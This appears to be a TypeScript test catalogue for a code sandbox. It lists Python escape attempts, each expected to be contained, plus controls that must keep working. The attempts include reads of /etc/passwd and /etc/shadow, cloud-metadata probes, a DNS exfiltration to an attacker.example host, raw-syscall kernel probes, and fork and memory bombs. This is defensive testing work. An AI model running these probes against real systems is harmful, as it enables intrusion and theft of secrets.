// The attack catalogue: data, so the same cases can later run through real sessions.
// Each source runs after prelude.py and prints CONTAINED/ESCAPED (attacks) or OK (controls).
export type Expectation = 'contained' | 'works'

export type AttackCase = {
  id: string
  category: string
  source: string
  expect: Expectation
  network?: boolean // spawn with network on (egress proxy + forwarder)
  killOk?: boolean // being killed (OOM, limits) also counts as contained
  allow?: string[] // network allow list for this case
  shell?: boolean // spawn with the shell on: children must inherit every kernel layer
  // Where the case runs: both paths (default), only through sessions (the host's caps and
  // wall clock), or only under the direct jail.
  runs?: 'both' | 'session' | 'jail'
  // The expectation through a session when it differs: the guest's own Python never
  // creates processes there (the shell tool does, on the host's side), so a control
  // that spawns is refused in a session.
  sessionExpect?: Expectation
}

const c = (id: string, category: string, source: string, extra: Partial<AttackCase> = {}): AttackCase => ({
  id,
  category,
  source,
  expect: 'contained',
  ...extra,
})
const control = (id: string, source: string, extra: Partial<AttackCase> = {}): AttackCase => ({
  id,
  category: 'control',
  source,
  expect: 'works',
  ...extra,
})

export const cases: AttackCase[] = [
  // reading and writing outside the roots
  c('fs.read-outside-open', 'fs', `attempt(lambda: open(OUTSIDE + '/secret.txt').read())`),
  c('fs.read-etc-passwd', 'fs', `attempt(lambda: open('/etc/passwd').read())`),
  c('fs.read-root-home', 'fs', `attempt(lambda: os.listdir('/root'))`),
  c(
    'fs.pathlib-read',
    'fs',
    `import pathlib\nattempt(lambda: pathlib.Path(OUTSIDE, 'secret.txt').read_text())`,
  ),
  c('fs.os-open-shadow', 'fs', `attempt(lambda: os.open('/etc/shadow', os.O_RDONLY))`),
  c(
    'fs.mmap-outside',
    'fs',
    `import mmap\ndef go():\n    fd = os.open(OUTSIDE + '/secret.txt', os.O_RDONLY)\n    return mmap.mmap(fd, 0, prot=mmap.PROT_READ)[:]\nattempt(go)`,
  ),
  c(
    'fs.dirfd-escape',
    'fs',
    `def go():\n    d = os.open('/', os.O_RDONLY | os.O_DIRECTORY)\n    return os.read(os.open('etc/passwd', os.O_RDONLY, dir_fd=d), 100)\nattempt(go)`,
  ),
  c(
    'fs.list-host-root',
    'fs',
    `try:\n    entries = set(os.listdir('/'))\nexcept OSError:\n    entries = set()\ncheck(bool(entries & {'home', 'root', 'var', 'etc', 'boot', 'srv'}), sorted(entries))`,
  ),
  c(
    'fs.symlink-in-root-to-outside',
    'fs',
    `os.symlink(OUTSIDE + '/secret.txt', ROOT + '/link')\nattempt(lambda: open(ROOT + '/link').read())`,
  ),
  c(
    'fs.symlink-to-etc',
    'fs',
    `os.symlink('/etc/passwd', ROOT + '/pw')\nattempt(lambda: open(ROOT + '/pw').read())`,
  ),
  c('fs.hardlink-outside-into-root', 'fs', `attempt(lambda: os.link(OUTSIDE + '/secret.txt', ROOT + '/hl'))`),
  c(
    'fs.rename-out-of-root',
    'fs',
    `open(ROOT + '/mine', 'w').write('x')\nattempt(lambda: os.rename(ROOT + '/mine', OUTSIDE + '/moved'))`,
  ),
  c('fs.write-outside', 'fs', `attempt(lambda: open(OUTSIDE + '/planted', 'w').write('x'))`),
  c(
    'fs.write-tmp-host',
    'fs',
    `open('/tmp/vis-host-planted', 'w').write('x')\ncheck(os.path.exists(OUTSIDE + '/../vis-host-planted'))`,
  ),
  c('fs.write-distribution', 'fs', `attempt(lambda: open(DIST + '/lib/python3.11/os.py', 'a').write('#'))`),
  c('fs.delete-distribution', 'fs', `attempt(lambda: os.remove(DIST + '/lib/python3.11/this.py'))`),
  c('fs.truncate-distribution', 'fs', `attempt(lambda: os.truncate(DIST + '/lib/python3.11/this.py', 0))`),
  c('fs.mkdir-outside', 'fs', `attempt(lambda: os.mkdir(OUTSIDE + '/newdir'))`),
  c('meta.chmod-outside', 'metadata', `attempt(lambda: os.chmod(OUTSIDE + '/secret.txt', 0o777))`),
  c('meta.utime-outside', 'metadata', `attempt(lambda: os.utime(OUTSIDE + '/secret.txt', (0, 0)))`),
  c(
    'meta.chmod-distribution',
    'metadata',
    `attempt(lambda: os.chmod(DIST + '/lib/python3.11/this.py', 0o777))`,
  ),
  c(
    'meta.chown-root-file',
    'metadata',
    `open(ROOT + '/f', 'w').close()\nattempt(lambda: os.chown(ROOT + '/f', 0, 0))`,
  ),
  // /proc and devices
  c(
    'proc.other-processes',
    'proc',
    `pids = [p for p in os.listdir('/proc') if p.isdigit()]\ncheck(len(pids) > 4, pids)`,
  ),
  c(
    'proc.host-pid',
    'proc',
    `attempt(lambda: os.kill(int(os.environ['VIS_TEST_HOST_PID']), 0) or open('/proc/%s/cmdline' % os.environ['VIS_TEST_HOST_PID']).read())`,
  ),
  c('proc.write-self-mem', 'proc', `attempt(lambda: open('/proc/self/mem', 'wb'))`),
  // Another process's environment (pid 1 unless the guest is init itself).
  c('proc.init-environ', 'proc', `on_others(lambda p: open(f'/proc/{p}/environ', 'rb').read())`),
  c('proc.sysctl-write', 'proc', `attempt(lambda: open('/proc/sys/kernel/hostname', 'w').write('pwned'))`),
  c('proc.kcore', 'proc', `attempt(lambda: open('/proc/kcore', 'rb').read(16))`),
  c('dev.block-device', 'devices', `attempt(lambda: open('/dev/vda', 'rb').read(512))`),
  c('dev.mknod', 'devices', `attempt(lambda: os.mknod(ROOT + '/mem', 0o600 | 0o020000, os.makedev(1, 1)))`),
  c(
    'dev.list',
    'devices',
    `try:\n    seen = set(os.listdir('/dev'))\nexcept OSError:\n    seen = set(p for p in ('sda', 'vda', 'mem', 'kmem', 'kvm', 'nvme0') if os.path.exists('/dev/' + p))\ncheck(bool(seen - {'null', 'urandom', 'random', 'zero', 'full', 'fd'}), sorted(seen))`,
  ),
  // network with the network off
  c(
    'net.tcp-host-loopback',
    'network',
    `import socket\nattempt(lambda: socket.create_connection(('127.0.0.1', HOST_PORT), timeout=2))`,
  ),
  c(
    'net.udp-loopback',
    'network',
    `import socket\nattempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', HOST_PORT)))`,
  ),
  c(
    'net.raw-socket',
    'network',
    `import socket\nattempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))`,
  ),
  c(
    'net.packet-socket',
    'network',
    `import socket\nattempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))`,
  ),
  c(
    'net.netlink-socket',
    'network',
    `import socket\nattempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))`,
  ),
  c(
    'net.metadata-address',
    'network',
    `import socket\nattempt(lambda: socket.create_connection(('169.254.169.254', 80), timeout=2))`,
  ),
  c(
    'net.private-address',
    'network',
    `import socket\nattempt(lambda: socket.create_connection(('10.0.0.1', 80), timeout=2))`,
  ),
  c(
    'net.numeric-loopback',
    'network',
    `import socket\nattempt(lambda: socket.create_connection(('2130706433', HOST_PORT), timeout=2))`,
  ),
  c(
    'net.dns-exfiltration',
    'network',
    `import socket\nattempt(lambda: socket.getaddrinfo('secret-data.attacker.example', 53))`,
  ),
  c(
    'net.dns-udp-direct',
    'network',
    `import socket\nattempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'q', ('8.8.8.8', 53)))`,
  ),
  c(
    'net.ipv6-loopback',
    'network',
    `import socket\nattempt(lambda: socket.create_connection(('::1', HOST_PORT), timeout=2))`,
  ),
  c(
    'net.tcp-fastopen',
    'network',
    `import socket\ndef go():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    return s.sendto(b'GET /', 0x20000000, ('127.0.0.1', HOST_PORT))\nattempt(go)`,
  ),
  c(
    'net.unix-host-socket',
    'network',
    `import socket\ndef go():\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(os.environ['VIS_TEST_HOST_UNIX'])\n    return s.recv(10)\nattempt(go)`,
  ),
  c(
    'net.abstract-unix',
    'network',
    `import socket\ndef go():\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('\\0' + os.environ['VIS_TEST_ABSTRACT'])\n    return s.recv(10)\nattempt(go)`,
  ),
  // process creation (shell off)
  c(
    'proc-create.subprocess',
    'processes',
    `import subprocess\nattempt(lambda: subprocess.run(['/usr/bin/id'], capture_output=True))`,
  ),
  c(
    'proc-create.os-system',
    'processes',
    `r = os.system('id > ' + ROOT + '/id.txt')\ncheck(os.path.exists(ROOT + '/id.txt'), r)`,
  ),
  c(
    'proc-create.fork',
    'processes',
    `def go():\n    pid = os.fork()\n    if pid == 0: os._exit(0)\n    return pid\nattempt(go)`,
  ),
  c(
    'proc-create.posix-spawn',
    'processes',
    `attempt(lambda: os.posix_spawn(sys.executable, [sys.executable, '-c', 'pass'], {}))`,
  ),
  c(
    'proc-create.pty',
    'processes',
    `import pty\ndef go():\n    pid, fd = pty.fork()\n    if pid == 0: os._exit(0)\n    return pid\nattempt(go)`,
  ),
  c(
    'proc-create.multiprocessing',
    'processes',
    `import multiprocessing as mp\ndef go():\n    p = mp.get_context('fork').Process(target=print)\n    p.start(); p.join()\n    return p.exitcode\nattempt(go)`,
  ),
  c(
    'proc-create.ctypes-fork',
    'processes',
    `def go():\n    r = libc.fork()\n    if r == 0: libc._exit(0)\n    if r < 0: raise OSError(ctypes.get_errno(), 'fork')\n    return r\nattempt(go)`,
  ),
  c(
    'proc-create.ctypes-execve',
    'processes',
    `def go():\n    argv = (ctypes.c_char_p * 2)(b'/usr/bin/id', None)\n    r = libc.execve(b'/usr/bin/id', argv, None)\n    raise OSError(ctypes.get_errno(), 'execve')\nattempt(go)`,
  ),
  c(
    'proc-create.raw-clone',
    'processes',
    `syscall_attempt(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD): a new process`,
  ),
  c('proc-create.vfork', 'processes', `syscall_attempt(58)`),
  c(
    'proc-create.exec-from-root',
    'processes',
    `import shutil\nshutil.copy(sys.executable, ROOT + '/py')\nos.chmod(ROOT + '/py', 0o755)\nattempt(lambda: os.execv(ROOT + '/py', ['py', '-c', 'print(1)']))`,
  ),
  // kernel attack surface
  c('kernel.unshare-user', 'kernel', `syscall_attempt(272, 0x10000000)`),
  // fallocate(2) reserves blocks faster than the disk budget is checked: EOPNOTSUPP, and nothing
  // allocated; a hole punch (which only frees) stays allowed.
  c(
    'disk.fallocate-raw',
    'disk',
    `fd = os.open(ROOT + '/fallocate.bin', os.O_CREAT | os.O_RDWR, 0o600)\ndef go():\n    r = libc.syscall(285, fd, 0, ctypes.c_long(0), ctypes.c_long(64 << 20))\n    if r < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))\n    return os.fstat(fd).st_blocks\nattempt(go)`,
    { runs: 'jail' },
  ),
  control(
    'disk.punch-hole',
    `fd = os.open(ROOT + '/punch.bin', os.O_CREAT | os.O_RDWR, 0o600)\nos.write(fd, b'x' * 65536)\nos.fsync(fd)\nr = libc.syscall(285, fd, 3, ctypes.c_long(0), ctypes.c_long(65536))\nif r == 0 and os.fstat(fd).st_blocks == 0: ok()\nelse: print('ERROR', r, ctypes.get_errno(), os.fstat(fd).st_blocks)`,
    { runs: 'jail' },
  ),
  c('kernel.ptrace', 'kernel', `syscall_attempt(101, 0, 0, 0, 0)  # PTRACE_TRACEME`),
  c('kernel.process-vm-readv', 'kernel', `syscall_attempt(310, 1, 0, 0, 0, 0, 0)`),
  c('kernel.bpf', 'kernel', `syscall_attempt(321, 0, 0, 0)`),
  c('kernel.io-uring', 'kernel', `syscall_attempt(425, 8, ctypes.create_string_buffer(120))`),
  c('kernel.userfaultfd', 'kernel', `syscall_attempt(323, 0)`),
  c(
    'kernel.perf-event-open',
    'kernel',
    `syscall_attempt(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)`,
  ),
  c('kernel.keyctl', 'kernel', `syscall_attempt(250, 0, 0, 0, 0)`),
  c(
    'kernel.mount',
    'kernel',
    `syscall_attempt(165, b'none', ctypes.c_char_p((ROOT + '/').encode()), b'tmpfs', 0, 0)`,
  ),
  c('kernel.chroot', 'kernel', `attempt(lambda: os.chroot(ROOT))`),
  c('kernel.setuid-root', 'kernel', `attempt(lambda: os.setuid(0))`),
  c(
    'kernel.capabilities',
    'kernel',
    `st = open('/proc/self/status').read()\ncaps = [l for l in st.splitlines() if l.startswith(('CapEff', 'CapPrm', 'CapBnd'))]\ncheck(any(not l.endswith('0000000000000000') for l in caps), caps)`,
  ),
  c('kernel.no-new-privs', 'kernel', `check('NoNewPrivs:\\t1' not in open('/proc/self/status').read())`),
  c(
    'kernel.raise-rlimit',
    'kernel',
    `import resource\nattempt(lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)))`,
  ),
  // signals
  // A parent outside the pid namespace shows as ppid 0, and kill(0) would only reach the
  // guest's own process group: that is containment, not a target.
  c(
    'signal.parent',
    'signals',
    `ppid = os.getppid()\nif ppid == 0:\n    check(False, 'the parent is outside this pid namespace')\nelse:\n    attempt(lambda: os.kill(ppid, 9))`,
  ),
  // Any other process: the namespace's init, or whatever else is visible.
  c('signal.init', 'signals', `on_others(lambda p: os.kill(p, 9))`),
  // bombs
  c(
    'bomb.threads',
    'bombs',
    `import threading\nn = 0\nev = threading.Event()\ntry:\n    for n in range(5000):\n        threading.Thread(target=ev.wait, daemon=True).start()\nexcept BaseException as e:\n    print('CONTAINED threads', n, e, flush=True)\nelse:\n    print('ESCAPED threads', n)\nev.set()`,
  ),
  c(
    'bomb.memory',
    'bombs',
    `chunks = []\ntry:\n    for i in range(64):\n        chunks.append(bytearray(64 << 20))\n        chunks[-1][::4096] = b'x' * len(chunks[-1][::4096])\nexcept MemoryError:\n    print('CONTAINED MemoryError', flush=True)\nelse:\n    print('ESCAPED 4 GiB', flush=True)`,
    { killOk: true },
  ),
  c(
    'bomb.fds',
    'bombs',
    `fds = []\ntry:\n    for i in range(100000): fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError as e:\n    check(len(fds) > 300, (len(fds), e))\nelse:\n    check(True, len(fds))`,
  ),
  c(
    'bomb.disk-root',
    'bombs',
    `def go():\n    with open(ROOT + '/big', 'wb') as f:\n        for i in range(256): f.write(b'x' * (1 << 20))\nattempt(go)`,
  ),
  c(
    'bomb.disk-tmp',
    'bombs',
    `def go():\n    with open('/tmp/big', 'wb') as f:\n        for i in range(256): f.write(b'x' * (1 << 20))\nattempt(go)`,
  ),
  // native code and secrets
  c(
    'native.dlopen-from-root',
    'native',
    `import shutil, glob\nsrc = glob.glob(DIST + '/lib/python3.11/lib-dynload/_json*.so')[0]\nshutil.copy(src, ROOT + '/evil.so')\nattempt(lambda: ctypes.CDLL(ROOT + '/evil.so'))`,
  ),
  c(
    'native.mprotect-exec-root-file',
    'native',
    `import mmap\nopen(ROOT + '/code.bin', 'wb').write(b'\\xc3' * 4096)\ndef go():\n    fd = os.open(ROOT + '/code.bin', os.O_RDONLY)\n    return mmap.mmap(fd, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)\nattempt(go)`,
  ),
  c(
    'env.secret-in-environ',
    'environment',
    `check('VIS_TEST_HOST_SECRET' in os.environ, sorted(os.environ))`,
  ),
  c(
    'env.secret-in-proc-environ',
    'environment',
    `check(b'hunter2' in open('/proc/self/environ', 'rb').read())`,
  ),
  // network on: only the proxy, and it refuses special addresses
  c(
    'egress.metadata-via-proxy',
    'egress',
    `import urllib.request\nattempt(lambda: urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=5).read())`,
    { network: true },
  ),
  c(
    'egress.localhost-name-via-proxy',
    'egress',
    `import urllib.request\nattempt(lambda: urllib.request.urlopen('http://localhost:%d/' % HOST_PORT, timeout=5).read())`,
    { network: true },
  ),
  c(
    'egress.numeric-spelling-via-proxy',
    'egress',
    `import urllib.request\nattempt(lambda: urllib.request.urlopen('http://2130706433:%d/' % HOST_PORT, timeout=5).read())`,
    { network: true },
  ),
  c(
    'egress.connect-private',
    'egress',
    `import http.client\ndef go():\n    c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=5)\n    c.set_tunnel('10.0.0.1', 443)\n    c.connect()\nattempt(go)`,
    { network: true },
  ),
  c(
    'egress.direct-bypass',
    'egress',
    `import socket\nattempt(lambda: socket.create_connection(('127.0.0.1', HOST_PORT), timeout=2).recv(1))`,
    { network: true },
  ),
  c(
    'egress.other-port',
    'egress',
    `import socket\ndef go():\n    s = socket.socket()\n    s.bind(('127.0.0.1', 8080)); s.listen()\n    return socket.create_connection(('127.0.0.1', 8080), timeout=2)\nattempt(go)`,
    { network: true },
  ),
  c(
    'egress.deny-list',
    'egress',
    `import urllib.request\nattempt(lambda: urllib.request.urlopen('http://denied.example/', timeout=5).read())`,
    { network: true },
  ),
  // shell on: process creation allowed, and children inherit every kernel layer
  c(
    'shell.child-reads-outside',
    'shell',
    `import subprocess\nr = subprocess.run(['/usr/bin/cat', OUTSIDE + '/secret.txt'], capture_output=True)\ncheck(b'top secret' in r.stdout, r.stderr[:100])`,
    { shell: true },
  ),
  c(
    'shell.child-etc-passwd',
    'shell',
    `import subprocess\nr = subprocess.run(['/usr/bin/cat', '/etc/passwd'], capture_output=True)\ncheck(r.returncode == 0, r.stderr[:100])`,
    { shell: true },
  ),
  c(
    'shell.child-network',
    'shell',
    `import subprocess\nr = subprocess.run([sys.executable, '-c', 'import socket; socket.create_connection(("127.0.0.1", %d), timeout=2)' % HOST_PORT], capture_output=True)\ncheck(r.returncode == 0, r.stderr[-120:])`,
    { shell: true },
  ),
  c(
    'shell.child-has-seccomp',
    'shell',
    `import subprocess\nr = subprocess.run(['/usr/bin/grep', '^Seccomp:', '/proc/self/status'], capture_output=True)\ncheck(b'2' not in r.stdout, r.stdout)`,
    { shell: true },
  ),
  c(
    'shell.child-exec-from-root',
    'shell',
    `import shutil, subprocess\nshutil.copy('/usr/bin/id', ROOT + '/id')\nos.chmod(ROOT + '/id', 0o755)\nattempt(lambda: subprocess.run([ROOT + '/id'], capture_output=True))`,
    { shell: true },
  ),
  c(
    'bomb.fork',
    'bombs',
    `import time\npids = []\ntry:\n    for i in range(1000):\n        pid = os.fork()\n        if pid == 0:\n            time.sleep(5)\n            os._exit(0)\n        pids.append(pid)\nexcept OSError as e:\n    print('CONTAINED forks', len(pids), e, flush=True)\nelse:\n    print('ESCAPED forks', len(pids), flush=True)\nfor p in pids:\n    os.kill(p, 9)`,
    { shell: true },
  ),
  // controls: must keep working
  control(
    'control.shell-subprocess',
    `import subprocess\nr = subprocess.run(['/usr/bin/echo', 'hi'], capture_output=True, check=True)\nok(r.stdout)`,
    { shell: true, sessionExpect: 'contained' },
  ),
  control(
    'control.threads',
    `import threading\nout = []\nts = [threading.Thread(target=out.append, args=(i,)) for i in range(8)]\n[t.start() for t in ts]; [t.join() for t in ts]\nok(len(out))`,
  ),
  control(
    'control.asyncio',
    `import asyncio\nasync def f(i):\n    await asyncio.sleep(0.01)\n    return i\nasync def main():\n    return sum(await asyncio.gather(*(f(i) for i in range(10))))\nok(asyncio.run(main()))`,
  ),
  control(
    'control.tempfile-root',
    `import tempfile\nwith tempfile.TemporaryDirectory(dir=ROOT) as d:\n    open(d + '/x', 'w').write('y')\nwith tempfile.NamedTemporaryFile() as f:\n    f.write(b'z')\nok()`,
  ),
  control(
    'control.symlink-root',
    `os.makedirs(ROOT + '/a', exist_ok=True)\nopen(ROOT + '/a/t.txt', 'w').write('hello')\nos.symlink(ROOT + '/a/t.txt', ROOT + '/l')\nassert open(ROOT + '/l').read() == 'hello'\nok()`,
  ),
  // Issue 30 section 8: a link in a root that points outside may itself be renamed and deleted
  // (the target is untouched: the harness compares the host's files after every case).
  control(
    'control.unlink-link-to-outside',
    `os.symlink(OUTSIDE + '/secret.txt', ROOT + '/out-link')\nos.rename(ROOT + '/out-link', ROOT + '/out-link2')\nos.unlink(ROOT + '/out-link2')\nassert not os.path.lexists(ROOT + '/out-link2')\nok()`,
  ),
  control(
    'control.sqlite-root',
    `import sqlite3\ndb = sqlite3.connect(ROOT + '/db.sqlite')\ndb.execute('create table t(x)'); db.execute('insert into t values (42)'); db.commit()\nok(db.execute('select x from t').fetchone())`,
  ),
  control(
    'control.stdlib-imports',
    `import json, ssl, hashlib, zlib, decimal, sqlite3, lzma, bz2, uuid, datetime, re, csv, asyncio, concurrent.futures\nok(hashlib.sha256(b'x').hexdigest()[:8])`,
  ),
  control(
    'control.file-io-root',
    `open(ROOT + '/data.txt', 'w').write('x' * 1000)\nos.rename(ROOT + '/data.txt', ROOT + '/d2.txt')\nos.remove(ROOT + '/d2.txt')\nok()`,
  ),
  control(
    'control.http-via-proxy',
    `import urllib.request\nbody = urllib.request.urlopen('http://127.0.0.1:%d/hello' % HOST_PORT, timeout=5).read()\nassert body == b'hello from host', body\nok(body)`,
    { network: true, allow: ['127.0.0.1'] },
  ),
]
